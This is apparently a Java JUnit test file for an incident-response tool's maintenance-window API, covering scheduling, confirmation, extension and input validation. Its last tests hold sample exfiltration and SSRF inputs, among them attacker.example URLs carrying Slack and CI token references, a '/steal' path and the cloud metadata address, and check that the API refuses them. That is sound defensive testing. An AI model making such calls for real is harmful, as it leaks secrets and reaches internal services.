package dev.firebreak.starter.api;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.firebreak.starter.config.ConfigLoader;
import dev.firebreak.starter.incidents.IncidentServices;
import dev.firebreak.workflows.action.HttpAction;
import dev.firebreak.workflows.incident.AlertReceived;
import dev.firebreak.workflows.incident.Declaration;
import dev.firebreak.workflows.incident.Severity;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.time.Instant;
import java.util.function.Predicate;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class MaintenanceApiTest {

  private static final ObjectMapper JSON = new ObjectMapper();

  @RegisterExtension final RunningApi api = new RunningApi();

  private static String window(Duration startIn, String extra) {
    Instant start = Instant.now().plus(startIn);
    return "{\"title\":\"Upgrade Firestore indexes\",\"services\":[\"recoup-backend\"],\"start\":\""
        + start
        + "\",\"end\":\""
        + start.plus(Duration.ofMinutes(30))
        + "\""
        + extra
        + "}";
  }

  private HttpResponse<String> schedule(String body) {
    return api.post(MaintenanceRoutes.BASE, "responder-token", body);
  }

  private JsonNode awaitWindow(String id, Predicate<JsonNode> condition) {
    await()
        .atMost(Duration.ofSeconds(20))
        .pollInterval(Duration.ofMillis(100))
        .until(
            () -> condition.test(json(api.get(MaintenanceRoutes.BASE + "/" + id, "viewer-token"))));
    return json(api.get(MaintenanceRoutes.BASE + "/" + id, "viewer-token"));
  }

  private static Predicate<JsonNode> status(String status) {
    return view -> view.get("status").asText().equals(status);
  }

  @Test
  void aWindowScheduledAFewSecondsAheadRunsByItsTemplateToTheAllClear() {
    HttpResponse<String> created = schedule(window(Duration.ofSeconds(1), ""));

    assertThat(created.statusCode()).isEqualTo(201);
    String id = json(created).get("id").asText();
    assertThat(id).matches("MW-\\d{8}-1");
    assertThat(json(created).get("workflowId").asText()).isEqualTo("maintenance-" + id);
    JsonNode done = awaitWindow(id, status("COMPLETED"));
    assertThat(done.get("requestedBy").asText()).isEqualTo("alice");
    assertThat(api.actions.performed).containsExactly("create-backup");
    assertThat(done.get("timeline").toString())
        .contains("Status page maintenance")
        .contains("All clear");
    JsonNode list = json(api.get(MaintenanceRoutes.BASE, "viewer-token"));
    assertThat(list.get(0).get("id").asText()).isEqualTo(id);
    assertThat(list.get(0).get("status").asText()).isEqualTo("COMPLETED");
  }

  @Test
  void aManualStepFromTheRequestWaitsForConfirmation() {
    String id =
        json(schedule(
                window(
                    Duration.ZERO,
                    ",\"steps\":[{\"name\":\"swap-database\",\"manual\":\"promote the replica\"}]")))
            .get("id")
            .asText();
    awaitWindow(id, view -> "swap-database".equals(view.path("waitingFor").asText()));

    HttpResponse<String> wrong =
        api.post(
            MaintenanceRoutes.BASE + "/" + id + "/confirm",
            "responder-token",
            "{\"step\":\"other\"}");
    HttpResponse<String> confirmed =
        api.post(
            MaintenanceRoutes.BASE + "/" + id + "/confirm",
            "responder-token",
            "{\"step\":\"swap-database\",\"note\":\"promoted\"}");

    assertThat(wrong.statusCode()).isEqualTo(409);
    assertThat(json(wrong).get("message").asText()).contains("is waiting for 'swap-database'");
    assertThat(confirmed.statusCode()).isEqualTo(200);
    assertThat(awaitWindow(id, status("COMPLETED")).get("timeline").toString())
        .contains("swap-database confirmed by alice: promoted");
  }

  @Test
  void schedulingWhileAP1IsOpenAsksForConfirmationAndTheIncidentIsRecordedInTheWindow() {
    String incident =
        json(api.post(
                IncidentRoutes.BASE,
                "responder-token",
                "{\"title\":\"Checkout down\",\"severity\":\"P1\",\"service\":\"recoup-backend\"}"))
            .get("id")
            .asText();

    HttpResponse<String> refused = schedule(window(Duration.ofMinutes(5), ""));
    HttpResponse<String> confirmed = schedule(window(Duration.ofMinutes(5), ",\"confirm\":true"));

    assertThat(refused.statusCode()).isEqualTo(409);
    assertThat(json(refused).get("error").asText()).isEqualTo("incident_open");
    assertThat(json(refused).get("message").asText())
        .contains("P1 " + incident + " is open")
        .contains("\"confirm\": true");
    assertThat(confirmed.statusCode()).isEqualTo(201);
    awaitWindow(
        json(confirmed).get("id").asText(),
        view ->
            view.get("timeline")
                .toString()
                .contains("Scheduled while P1 " + incident + " were open; alice confirmed"));
  }

  @Test
  void aP1DeclaredWhileAWindowRunsIsRecordedInBoth() {
    String id =
        json(schedule(
                window(
                    Duration.ZERO,
                    ",\"steps\":[{\"name\":\"swap-database\",\"manual\":\"promote the replica\"}]")))
            .get("id")
            .asText();
    awaitWindow(id, view -> view.path("waitingFor").asText().equals("swap-database"));

    String incident =
        json(api.post(
                IncidentRoutes.BASE,
                "responder-token",
                "{\"title\":\"Checkout down\",\"severity\":\"P1\",\"service\":\"recoup-backend\"}"))
            .get("id")
            .asText();

    awaitWindow(
        id,
        view ->
            view.get("timeline")
                .toString()
                .contains("P1 " + incident + " declared on recoup-backend"));
    await()
        .atMost(Duration.ofSeconds(10))
        .until(
            () ->
                json(api.get(IncidentRoutes.BASE + "/" + incident, "viewer-token"))
                    .get("timeline")
                    .toString()
                    .contains("Declared during maintenance " + id));
  }

  @Test
  void aP1AnAlertOpensWhileAWindowRunsIsRecordedInBoth() {
    String id =
        json(schedule(
                window(
                    Duration.ZERO,
                    ",\"steps\":[{\"name\":\"swap-database\",\"manual\":\"promote the replica\"}]")))
            .get("id")
            .asText();
    awaitWindow(id, view -> view.path("waitingFor").asText().equals("swap-database"));

    // An alert opens its incident with a signal-with-start, never through the API's declare.
    IncidentServices.of(
            api.temporal.getWorkflowClient(), new ConfigLoader().load(RunningApi.CONFIG), false)
        .alerts()
        .firing(
            new Declaration(
                "ALERT-1",
                "Checkout down",
                Severity.P1,
                "recoup-backend",
                null,
                null,
                "alertmanager",
                null),
            new AlertReceived(
                "alertmanager", "fp-1", true, "Checkout down", Severity.P1, null, null, false));

    awaitWindow(
        id,
        view -> view.get("timeline").toString().contains("P1 ALERT-1 declared on recoup-backend"));
    await()
        .atMost(Duration.ofSeconds(10))
        .until(
            () ->
                json(api.get(IncidentRoutes.BASE + "/ALERT-1", "viewer-token"))
                    .get("timeline")
                    .toString()
                    .contains("Declared during maintenance " + id));
  }

  @Test
  void extendAndAbortOverTheApi() {
    String body = window(Duration.ofHours(1), "");
    String id = json(schedule(body)).get("id").asText();
    String end =
        json(api.get(MaintenanceRoutes.BASE + "/" + id, "viewer-token")).get("end").asText();

    HttpResponse<String> earlier =
        api.post(
            MaintenanceRoutes.BASE + "/" + id + "/extend",
            "responder-token",
            "{\"until\":\"" + Instant.parse(end).minusSeconds(60) + "\"}");
    HttpResponse<String> later =
        api.post(
            MaintenanceRoutes.BASE + "/" + id + "/extend",
            "responder-token",
            "{\"until\":\""
                + Instant.parse(end).plusSeconds(3600)
                + "\",\"reason\":\"bigger migration\"}");
    HttpResponse<String> aborted =
        api.post(
            MaintenanceRoutes.BASE + "/" + id + "/abort",
            "responder-token",
            "{\"reason\":\"vendor outage\"}");

    assertThat(earlier.statusCode()).isEqualTo(409);
    assertThat(later.statusCode()).isEqualTo(200);
    assertThat(Instant.parse(json(later).get("end").asText()))
        .isEqualTo(Instant.parse(end).plusSeconds(3600));
    assertThat(aborted.statusCode()).isEqualTo(200);
    assertThat(awaitWindow(id, status("ABORTED")).get("outcome").asText())
        .contains("aborted by alice")
        .contains("before it started");
    assertThat(api.get(MaintenanceRoutes.BASE + "/MW-19990101-1", "viewer-token").statusCode())
        .isEqualTo(404);
  }

  @Test
  void badRequestsAreRefusedWithTheFieldNamed() {
    assertThat(
            message(
                schedule(
                    "{\"title\":\"x\",\"start\":\"2030-01-01T00:00:00Z\",\"end\":\"2030-01-01T01:00:00Z\"}")))
        .contains("'services'");
    assertThat(
            message(
                schedule(
                    "{\"title\":\"x\",\"services\":[\"nope\"],\"start\":\"2030-01-01T00:00:00Z\",\"end\":\"2030-01-01T01:00:00Z\"}")))
        .contains("No service named 'nope'");
    assertThat(
            message(
                schedule(
                    "{\"title\":\"x\",\"services\":[\"recoup-backend\"],\"start\":\"2030-01-01T02:00:00Z\",\"end\":\"2030-01-01T01:00:00Z\"}")))
        .contains("'end' must be after 'start'");
    assertThat(
            message(
                schedule(
                    "{\"title\":\"x\",\"services\":[\"recoup-backend\"],\"start\":\"2020-01-01T00:00:00Z\",\"end\":\"2020-01-01T01:00:00Z\"}")))
        .contains("'start' is in the past");
    assertThat(
            message(
                api.post(
                    MaintenanceRoutes.BASE,
                    "admin-token",
                    window(
                        Duration.ofHours(1),
                        ",\"steps\":[{\"name\":\"both\",\"manual\":\"x\",\"http\":{\"url\":\"http://127.0.0.1:9/\"}}]"))))
        .contains("'steps[0]' must have exactly one of 'manual'");
    assertThat(message(schedule(window(Duration.ofHours(1), ",\"template\":\"weekly\""))))
        .contains("No maintenance window 'weekly'");
    assertThat(
            api.post(MaintenanceRoutes.BASE, "viewer-token", window(Duration.ofHours(1), ""))
                .statusCode())
        .isEqualTo(403);
  }

  static Stream<Arguments> timesBeyondTheBounds() {
    Instant soon = Instant.now().plus(Duration.ofHours(1));
    return Stream.of(
        Arguments.of(
            "+1000000000-01-01T00:00:00Z",
            "+1000000000-01-01T01:00:00Z",
            "'start' is more than 365d ahead"),
        Arguments.of(
            soon.plus(Duration.ofDays(400)).toString(),
            soon.plus(Duration.ofDays(400)).plusSeconds(60).toString(),
            "'start' is more than 365d ahead"),
        Arguments.of(soon.toString(), soon.plus(Duration.ofDays(8)).toString(), "longer than 7d"),
        Arguments.of(soon.toString(), "+1000000000-01-01T00:00:00Z", "longer than 7d"));
  }

  @ParameterizedTest(name = "{0} to {1}")
  @MethodSource("timesBeyondTheBounds")
  void aWindowBeyondTheHorizonOrLongerThanTheMaximumIsRefusedAndNothingStarts(
      String start, String end, String message) {
    HttpResponse<String> refused =
        schedule(
            "{\"title\":\"x\",\"services\":[\"recoup-backend\"],\"start\":\""
                + start
                + "\",\"end\":\""
                + end
                + "\"}");

    assertThat(message(refused)).contains(message).contains("maintenance.");
    assertThat(json(api.get(MaintenanceRoutes.BASE, "viewer-token"))).isEmpty();
  }

  @Test
  void anExtensionPastTheLongestWindowIsRefused() {
    String id = json(schedule(window(Duration.ofHours(1), ""))).get("id").asText();
    Instant start =
        Instant.parse(
            json(api.get(MaintenanceRoutes.BASE + "/" + id, "viewer-token")).get("start").asText());

    HttpResponse<String> refused =
        api.post(
            MaintenanceRoutes.BASE + "/" + id + "/extend",
            "responder-token",
            "{\"until\":\"" + start.plus(Duration.ofDays(7)).plusSeconds(1) + "\"}");
    HttpResponse<String> allowed =
        api.post(
            MaintenanceRoutes.BASE + "/" + id + "/extend",
            "responder-token",
            "{\"until\":\"" + start.plus(Duration.ofDays(7)) + "\"}");

    assertThat(message(refused)).contains("longer than 7d");
    assertThat(allowed.statusCode()).as(allowed.body()).isEqualTo(200);
  }

  /**
   * Ad-hoc calls that try to send the worker's secrets somewhere: the issue's own, and its
   * variants.
   */
  static Stream<String> adHocCallsCarryingReferences() {
    return Stream.of(
        "{\"url\":\"http://attacker.example/?t=${SLACK_BOT_TOKEN}\",\"headers\":{\"Authorization\":\"Bearer ${FIREBREAK_CI_TOKEN}\"}}",
        "{\"url\":\"http://127.0.0.1:9/health?t=${SLACK_SIGNING_SECRET}\"}",
        "{\"url\":\"https://ops.recoup.test/hook\",\"body\":\"${CDN_TOKEN}\"}",
        "{\"method\":\"GET\",\"url\":\"${FIREBREAK_DEV_URL}/steal\"}");
  }

  @ParameterizedTest
  @MethodSource("adHocCallsCarryingReferences")
  void aResponderCannotAddAnAdHocHttpStepWhereverItPoints(String call) {
    HttpResponse<String> refused =
        schedule(window(Duration.ZERO, ",\"steps\":[{\"name\":\"x\",\"http\":" + call + "}]"));

    assertThat(refused.statusCode()).isEqualTo(403);
    assertThat(json(refused).get("error").asText()).isEqualTo("forbidden");
    assertThat(json(refused).get("message").asText())
        .contains("needs the admin role")
        .contains("known: purge-cdn");
    assertThat(json(api.get(MaintenanceRoutes.BASE, "viewer-token"))).isEmpty();
  }

  static Stream<Arguments> adHocTargets() {
    return Stream.of(
        Arguments.of("http://attacker.example/collect", 400),
        Arguments.of("http://127.0.0.1:9999/health", 400),
        Arguments.of("http://127.0.0.1:9@attacker.example/", 400),
        Arguments.of("http://169.254.169.254/latest/meta-data/", 400),
        Arguments.of("https://slack.com/api/auth.test", 400),
        Arguments.of("http://127.0.0.1:9/anything", 201),
        Arguments.of("https://ops.recoup.test:8443/hook", 201));
  }

  @ParameterizedTest
  @MethodSource("adHocTargets")
  void anAdminsAdHocHttpStepMayOnlyCallAHostTheConfigNames(String url, int expected) {
    HttpResponse<String> answer =
        api.post(
            MaintenanceRoutes.BASE,
            "admin-token",
            window(
                Duration.ofHours(1),
                ",\"steps\":[{\"name\":\"poke\",\"http\":{\"url\":\"" + url + "\"}}]"));

    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(expected);
    if (expected == 400) {
      assertThat(json(answer).get("message").asText())
          .contains("'steps[0].http.url' may only call a host the config names")
          .contains("127.0.0.1:9")
          .contains("ops.recoup.test");
    }
  }

  @Test
  void anAdminsAdHocStepReachesTheWorkerAsLiteralTextThatIsNeverExpanded() {
    String id =
        json(api.post(
                MaintenanceRoutes.BASE,
                "admin-token",
                window(
                    Duration.ofSeconds(1),
                    ",\"steps\":[{\"name\":\"poke\",\"http\":{\"url\":\"http://127.0.0.1:9/x?t=${SLACK_BOT_TOKEN}\","
                        + "\"headers\":{\"Authorization\":\"Bearer ${FIREBREAK_CI_TOKEN}\"}}}]")))
            .get("id")
            .asText();
    awaitWindow(id, status("COMPLETED"));

    HttpAction poke =
        api.actions.received.stream()
            .filter(a -> a.name().equals("poke"))
            .findFirst()
            .orElseThrow();
    assertThat(poke.fromConfig()).isFalse();
    assertThat(poke.url()).isEqualTo("http://127.0.0.1:9/x?t=${SLACK_BOT_TOKEN}");
    assertThat(
            api.actions.received.stream()
                .filter(a -> a.name().equals("create-backup"))
                .findFirst()
                .orElseThrow()
                .fromConfig())
        .isTrue();
  }

  @Test
  void aResponderAddsAStepTheConfigDefinesByItsName() {
    String id =
        json(schedule(window(Duration.ofSeconds(1), ",\"steps\":[{\"name\":\"purge-cdn\"}]")))
            .get("id")
            .asText();
    awaitWindow(id, status("COMPLETED"));
    HttpResponse<String> unknown =
        schedule(window(Duration.ofHours(1), ",\"steps\":[{\"name\":\"drop-tables\"}]"));

    assertThat(api.actions.performed).containsExactly("create-backup", "purge-cdn");
    HttpAction purge = api.actions.received.get(1);
    assertThat(purge.fromConfig()).isTrue();
    assertThat(purge.headers()).containsEntry("Authorization", "Bearer ${CDN_TOKEN}");
    assertThat(message(unknown))
        .contains("'steps[0]' names no step of the config ('drop-tables'); known: purge-cdn");
  }

  private static String message(HttpResponse<String> response) {
    assertThat(response.statusCode()).isEqualTo(400);
    return json(response).get("message").asText();
  }

  private static JsonNode json(HttpResponse<String> response) {
    try {
      return JSON.readTree(response.body());
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
